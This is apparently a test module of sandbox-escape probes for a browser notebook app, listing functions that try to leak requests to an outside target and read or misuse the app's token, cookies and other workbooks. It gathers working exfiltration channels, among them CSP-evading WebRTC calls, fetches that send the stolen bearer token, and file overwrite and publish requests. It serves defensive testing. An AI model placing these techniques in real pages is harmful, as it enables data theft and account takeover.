import type { Attack } from "./hostile.ts";

// What is here runs in the frame, one function by itself: it may name nothing of this module.

/** Each sends something elsewhere: success is a request at its own address. */
export const sends: readonly Attack[] = [
  { name: "fetch", run: ({ target }) => fetch(target) },
  { name: "fetch no-cors", run: ({ target }) => fetch(target, { mode: "no-cors" }).then(() => 1) },
  {
    name: "fetch keepalive",
    run: ({ target }) => fetch(target, { method: "POST", body: "x", keepalive: true }),
  },
  {
    name: "XMLHttpRequest",
    run: ({ target }) => {
      const request = new XMLHttpRequest();
      request.open("GET", target, false);
      request.send();
      return request.status;
    },
  },
  { name: "beacon", run: ({ target }) => navigator.sendBeacon(target, "x") },
  {
    name: "EventSource",
    run: ({ target }) =>
      new Promise((resolve) => {
        new EventSource(target).addEventListener("error", () => resolve("over"));
      }),
  },
  {
    name: "WebSocket",
    run: ({ target }) =>
      new Promise((resolve) => {
        new WebSocket(target.replace("http", "ws")).addEventListener("error", () =>
          resolve("over"),
        );
      }),
  },
  { name: "import", run: ({ target }) => new Function("url", "return import(url)")(target) },
  {
    name: "script",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("script"), { src: target })),
  },
  {
    name: "stylesheet",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("link"), { rel: "stylesheet", href: target })),
  },
  {
    name: "css import",
    run: ({ target, settled }) =>
      settled(
        Object.assign(document.createElement("style"), { textContent: `@import url(${target});` }),
      ),
  },
  {
    name: "background",
    run: ({ target, settled }) => {
      const box = document.createElement("div");
      box.style.cssText = `background: url(${target}); width: 9px; height: 9px`;
      return settled(box);
    },
  },
  {
    name: "font",
    run: ({ target }) => new FontFace("stolen", `url(${target})`).load(),
  },
  {
    name: "preload",
    run: ({ target, settled }) =>
      settled(
        Object.assign(document.createElement("link"), {
          rel: "preload",
          as: "script",
          href: target,
        }),
      ),
  },
  {
    name: "prefetch",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("link"), { rel: "prefetch", href: target })),
  },
  {
    name: "image",
    run: ({ target, settled }) => settled(Object.assign(new Image(), { src: target })),
  },
  {
    name: "picture in SVG",
    run: ({ target, settled }) => {
      const box = document.createElement("div");
      box.innerHTML = `<svg><image href="${target}" width="9" height="9"/></svg>`;
      return settled(box);
    },
  },
  {
    name: "image button",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("input"), { type: "image", src: target })),
  },
  {
    name: "video",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("video"), { src: target, preload: "auto" })),
  },
  {
    name: "audio",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("audio"), { src: target, preload: "auto" })),
  },
  {
    name: "object",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("object"), { data: target })),
  },
  {
    name: "embed",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("embed"), { src: target })),
  },
  {
    name: "frame",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("iframe"), { src: target })),
  },
  {
    name: "frame in a frame",
    run: ({ target, settled }) =>
      settled(Object.assign(document.createElement("iframe"), { srcdoc: `<img src="${target}">` })),
  },
  {
    name: "refresh in a frame",
    run: ({ target, settled }) =>
      settled(
        Object.assign(document.createElement("iframe"), {
          srcdoc: `<meta http-equiv="refresh" content="0; url=${target}">`,
        }),
      ),
  },
  {
    name: "ping",
    run: ({ target }) => {
      const link = Object.assign(document.createElement("a"), { href: "#x", ping: target });
      document.body.append(link);
      link.click();
    },
  },
  {
    name: "worker",
    run: ({ target }) => {
      const text = `fetch("${target}").finally(() => postMessage("over"))`;
      const worker = new Worker(URL.createObjectURL(new Blob([text])));
      return new Promise((resolve) => worker.addEventListener("message", () => resolve("over")));
    },
  },
  {
    name: "worker that imports a script",
    run: ({ target }) => {
      const text = `try { importScripts("${target}") } catch {} postMessage("over")`;
      const worker = new Worker(URL.createObjectURL(new Blob([text])));
      return new Promise((resolve) => worker.addEventListener("message", () => resolve("over")));
    },
  },
];

/** WebRTC, which the Content Security Policy does not know: success is a packet. */
export const calls: readonly Attack[] = [
  {
    name: "WebRTC",
    run: async ({ udp }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      peer.createDataChannel("out");
      await peer.setLocalDescription(await peer.createOffer());
      return "called";
    },
  },
];

/** WebRTC of a window that no script of ours has seen: success is a packet. */
export const callsOfFreshWindow: readonly Attack[] = [
  {
    name: "WebRTC of a fresh window",
    run: ({ udp, settled }) => {
      const code = `const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:${udp}'}]});
        peer.createDataChannel('out'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`;
      return settled(
        Object.assign(document.createElement("iframe"), { srcdoc: `<body onload="${code}">` }),
      );
    },
  },
  {
    name: "WebRTC of an empty window",
    run: () => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      return typeof Reflect.get(frame.contentWindow ?? {}, "RTCPeerConnection");
    },
  },
];

/** WebRTC of a window where a site's loader gets its parts from the workbook: success is a packet. */
export const callsOfLoader: readonly Attack[] = [
  {
    name: "WebRTC of a loader",
    run: async ({ udp, settled }) => {
      const code = `const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:${udp}'}]});
        peer.createDataChannel('out'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`;
      const modules = { "x.js": { imports: [], edits: [] } };
      const links = { entry: "x.js", styles: [], modules, sheets: {}, files: [], packed: [] };
      window.addEventListener("message", ({ ports: [port] }) => {
        port?.addEventListener("message", ({ data, ports: [reply] }: MessageEvent<unknown>) =>
          reply?.postMessage(
            new TextEncoder().encode(data === "x.js" ? code : JSON.stringify(links)).buffer,
          ),
        );
        port?.start();
      });
      const srcdoc = `<body><script>${document.scripts[0]?.text}</script>`;
      await settled(Object.assign(document.createElement("iframe"), { srcdoc }));
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    },
  },
];

/** Each reads what is the shell's or another workbook's: success is what it came to. */
export const reads: readonly Attack[] = [
  { name: "token", run: () => localStorage.getItem("tierbook.token") },
  { name: "session storage", run: () => sessionStorage.length },
  { name: "token of the parent", run: () => parent.localStorage.getItem("tierbook.token") },
  { name: "parent page", run: () => parent.document.body.innerText },
  { name: "top address", run: () => top?.location.href },
  {
    name: "frame element",
    run: () => window.frameElement?.outerHTML ?? Promise.reject(new Error("none")),
  },
  { name: "cookies", run: () => document.cookie },
  { name: "cookie store", run: () => cookieStore.getAll() },
  {
    name: "databases",
    run: () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open("tierbook");
        request.addEventListener("success", () => resolve("open"));
        request.addEventListener("error", () => reject(request.error));
      }),
  },
  { name: "caches", run: () => caches.keys() },
  { name: "private files", run: () => navigator.storage.getDirectory().then(() => "open") },
  { name: "storage access", run: () => document.requestStorageAccess().then(() => "given") },
  {
    name: "domain",
    run: ({ own }) => {
      document.domain = new URL(own).hostname;
      return document.domain;
    },
  },
  {
    name: "service worker",
    run: ({ own }) => navigator.serviceWorker.register(`${own}/assets/x.js`).then(() => "there"),
  },
  {
    name: "other workbook",
    run: ({ own }) => fetch(`${own}/api/files/other.html`).then((answer) => answer.text()),
  },
  {
    name: "other workbook with cookies",
    run: ({ own }) =>
      fetch(`${own}/api/files/other.html`, { credentials: "include" }).then((a) => a.text()),
  },
  {
    name: "other workbook with the token",
    run: ({ own }) => {
      const headers = { Authorization: `Bearer ${localStorage.getItem("tierbook.token")}` };
      return fetch(`${own}/api/files/other.html`, { headers }).then((answer) => answer.text());
    },
  },
  {
    name: "ledger unseen",
    run: ({ own }) =>
      fetch(`${own}/api/ledger`, { mode: "no-cors" }).then((a) =>
        a.text().then((t) => t || a.type),
      ),
  },
  {
    name: "ledger as a script",
    run: ({ own, settled }) =>
      settled(Object.assign(document.createElement("script"), { src: `${own}/api/ledger` })),
  },
  {
    name: "ledger by a worker",
    run: ({ own }) => {
      const text = `fetch("${own}/api/ledger").then((a) => a.text()).then(postMessage, (e) => postMessage("failed"))`;
      const worker = new Worker(URL.createObjectURL(new Blob([text])));
      return new Promise((resolve, reject) => {
        worker.addEventListener("message", ({ data }) =>
          data === "failed" ? reject(new Error("unseen")) : resolve(data),
        );
      });
    },
  },
  {
    name: "shell in a frame",
    run: async ({ own, settled }) => {
      const frame = Object.assign(document.createElement("iframe"), { src: `${own}/w/other.html` });
      await settled(frame);
      return frame.contentDocument?.body.innerText ?? Promise.reject(new Error("unseen"));
    },
  },
  {
    name: "overwrite",
    run: async ({ own }) => {
      const answer = await fetch(`${own}/api/files/new.html`, {
        method: "PUT",
        headers: {
          Authorization: `Bearer ${localStorage.getItem("tierbook.token")}`,
          "If-None-Match": "*",
        },
        body: "<!doctype html><notebook></notebook>",
      });
      return answer.status;
    },
  },
  {
    name: "publish",
    run: async ({ own }) => {
      const headers = {
        Authorization: `Bearer ${localStorage.getItem("tierbook.token")}`,
        "Content-Type": "application/json",
      };
      const report = { text: "<notebook></notebook>", cells: [], receipts: [], runs: [] };
      const answer = await fetch(`${own}/api/publications/prepare`, {
        method: "POST",
        headers,
        body: JSON.stringify({
          path: "other.html",
          shown: { report, results: [] },
          files: [],
          by: null,
          withData: true,
        }),
      });
      const { digest } = (await answer.json()) as { readonly digest: string };
      const published = await fetch(`${own}/api/publications/${digest}`, {
        method: "POST",
        headers,
      });
      return published.status;
    },
  },
];
